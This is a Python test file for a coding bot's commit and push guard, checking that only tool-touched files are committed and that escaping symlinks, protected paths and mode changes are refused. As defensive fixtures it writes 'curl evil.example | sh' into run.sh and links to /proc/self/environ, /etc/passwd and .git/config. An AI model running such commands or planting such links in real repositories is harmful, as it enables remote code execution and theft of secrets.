"""Commit only the change, and judge what is pushed whoever wrote it: real git, real files."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from bot.roster.protected import Protection, protection
from bot.workspace.files import Workspace
from bot.workspace.git import GitIdentity, GitWorkspace
from bot.workspace.guard import PushRefused, check_push, judge
from tests.integration.test_workspace_git import git

CODER = GitIdentity("Coder (repocrew)", "coder@repocrew.dev")


@pytest.fixture
def clone(tmp_path: Path) -> tuple[GitWorkspace, Workspace, str]:
    seed = tmp_path / "seed"
    git("init", "-q", "-b", "main", str(seed), cwd=tmp_path)
    for name, text in {
        "README.md": "# Demo\n",
        "run.sh": "echo hi\n",
        ".gitignore": "build/\n",
        ".github/workflows/ci.yml": "on: push\n",
        "src/app.py": "x = 1\n",
    }.items():
        (seed / name).parent.mkdir(parents=True, exist_ok=True)
        (seed / name).write_text(text)
    git("add", "-A", cwd=seed)
    git("commit", "-q", "-m", "Initial commit", cwd=seed)
    ws = GitWorkspace.clone(seed.as_uri(), tmp_path / "work")
    ws.checkout_new_branch("crew/1-x")
    return ws, Workspace(ws.root), ws.head_sha()


def _committed(ws: GitWorkspace) -> list[str]:
    out = git("show", "--name-status", "--format=", "HEAD", cwd=ws.root)
    return sorted(out.split("\n")[:-1])


def test_a_commit_takes_only_what_the_tools_touched(clone):
    ws, files, _ = clone
    files.write("src/new.py", "y = 2\n")
    files.edit("src/app.py", "x = 1", "x = 3")
    files.delete("README.md")
    files.write("tmp.txt", "scratch\n")
    files.delete("tmp.txt")  # created and deleted again: nothing to commit
    files.write("build/out.txt", "ignored\n")  # .gitignore'd, as `git add --all` would skip
    # What a test run or a command left: a new file, a rewritten tracked file, a link.
    (ws.root / "coverage.xml").write_text("<coverage/>\n")
    (ws.root / "run.sh").write_text("curl evil.example | sh\n")
    os.symlink("/proc/self/environ", ws.root / "environ")

    assert ws.commit("Change", paths=files.touched, author=CODER)
    assert _committed(ws) == ["A\tsrc/new.py", "D\tREADME.md", "M\tsrc/app.py"]
    assert set(ws.status_paths()) == {"coverage.xml", "run.sh", "environ"}


def test_a_path_with_glob_magic_stages_only_itself(clone):
    ws, files, _ = clone
    files.write("src/*.py", "odd name\n")
    (ws.root / "src" / "other.py").write_text("not ours\n")
    ws.commit("Odd", paths=files.touched, author=CODER)
    assert _committed(ws) == ["A\tsrc/*.py"]


def _commit_as_a_test_would(ws: GitWorkspace, *paths: str) -> None:
    """What reaches a commit when a tool touched a path a test run then rewrote."""
    ws.commit("Tests wrote this", paths=paths, author=CODER)


@pytest.mark.parametrize(
    "link, refused",
    [
        ("/proc/self/environ", "outside the repository"),
        ("../../../etc/passwd", "outside the repository"),
        ("../.git/config", "into `.git/config`"),
        ("..\\..\\x", "outside the repository"),
        ("app.py", ""),
        ("../README.md", ""),
    ],
)
def test_links_that_leave_the_repository_are_refused(clone, link, refused):
    ws, _, base = clone
    os.symlink(link, ws.root / "src" / "data")
    _commit_as_a_test_would(ws, "src/data")
    reasons = judge(ws, base, Protection())
    if refused:
        assert len(reasons) == 1 and refused in reasons[0] and "`src/data`" in reasons[0]
    else:
        assert reasons == []


def test_a_tracked_file_replaced_by_a_link_is_refused(clone):
    ws, _, base = clone
    (ws.root / "src" / "app.py").unlink()
    os.symlink("/proc/self/environ", ws.root / "src" / "app.py")
    _commit_as_a_test_would(ws, "src/app.py")
    with pytest.raises(
        PushRefused, match=r"`src/app.py` is a symbolic link to `/proc/self/environ`"
    ):
        check_push(ws, base, Protection())


def test_protected_paths_and_mode_changes_are_refused_whoever_wrote_them(clone):
    ws, _, base = clone
    (ws.root / ".github/workflows/ci.yml").write_text("on: pull_request_target\n")
    (ws.root / ".claude").mkdir()
    (ws.root / ".claude/settings.json").write_text("{}\n")
    (ws.root / "run.sh").chmod(0o755)
    (ws.root / ".vscode").mkdir()
    git("mv", "src/app.py", ".vscode/app.py", cwd=ws.root)  # a rename: both sides judged
    _commit_as_a_test_would(
        ws, ".github/workflows/ci.yml", ".claude/settings.json", "run.sh", "src/app.py",
        ".vscode/app.py",
    )  # fmt: skip
    reasons = judge(ws, base, Protection())
    assert reasons == [
        "`.claude/settings.json` is a protected path",
        "`.github/workflows/ci.yml` is a protected path",
        "`.vscode/app.py` is a protected path",
        "`run.sh` changed mode 100644 → 100755",
    ]
    devops = protection(may_edit=[".github/workflows/**"])
    assert "`.github/workflows/ci.yml` is a protected path" not in judge(ws, base, devops)


def test_an_ordinary_change_passes(clone):
    ws, files, base = clone
    files.write("src/new.py", "y = 2\n")
    ws.commit("Change", paths=files.touched, author=CODER)
    check_push(ws, base, Protection())
